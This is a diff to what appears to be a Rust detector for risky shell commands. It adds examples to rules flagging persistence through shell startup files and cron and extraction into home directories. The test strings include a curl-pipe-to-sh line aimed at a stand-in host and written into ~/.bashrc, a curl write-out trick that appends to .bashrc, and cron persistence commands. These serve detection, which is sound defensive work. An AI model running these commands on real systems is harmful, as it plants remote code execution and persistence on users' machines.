@@ -68,8 +68,8 @@ macro_rules! written_rule {
 
 static RULES: &[Rule] = &[
     written_rule!("persistence.shell.startup", Kind::Shell, High, "every new shell would run what is written here",
-        fires: &["echo 'curl -s http://evil.example/p | sh' >> ~/.bashrc", "echo 'alias ls=x' >> ~/.zshrc", "cp x /etc/profile.d/x.sh", "tee -a ~/.profile < x", "sed -i s/a/b/ ~/.bashrc"],
-        quiet: &["cat ~/.bashrc", "source ~/.bashrc", "echo x >> bashrc.txt"]),
+        fires: &["echo 'curl -s http://evil.example/p | sh' >> ~/.bashrc", "echo 'alias ls=x' >> ~/.zshrc", "cp x /etc/profile.d/x.sh", "tee -a ~/.profile < x", "sed -i s/a/b/ ~/.bashrc", "curl -so x -w '%output{>>/home/dev/.bashrc}y' http://localhost/"],
+        quiet: &["curl -s -w '%{http_code}' -o x http://localhost/", "cat ~/.bashrc", "source ~/.bashrc", "echo x >> bashrc.txt"]),
     written_rule!("persistence.schedule.table", Kind::Schedule, High, "a job would run again and again at set times",
         fires: &["echo '* * * * * root /tmp/.x' > /etc/cron.d/job", "(crontab -l; echo '* * * * * /x') | crontab -", "crontab jobs.txt", "echo x >> /var/spool/cron/root"],
         quiet: &["crontab -l", "ls /etc/cron.d"]),
@@ -361,10 +361,15 @@ static RULES: &[Rule] = &[
             "7z x a.zip -o$HOME",
             "tar -xf x.tar -C ~/.config",
             "rsync -a --read-batch=x ~/",
+            "scp -OT dev@host.example.com:'*' ~/",
+            "docker build -qo ~ .",
+            "unzip -qo -: x.zip -d ~/tools",
         ],
         quiet: &[
             "unzip x.zip -d ~/tools/x",
             "rsync -a --read-batch=x out/",
+            "scp dev@host.example.com:'logs/*' out/",
+            "docker build -o out .",
             "tar -xf x.tar -C out",
             "unzip -l x.zip",
             "tar tf x.tar",
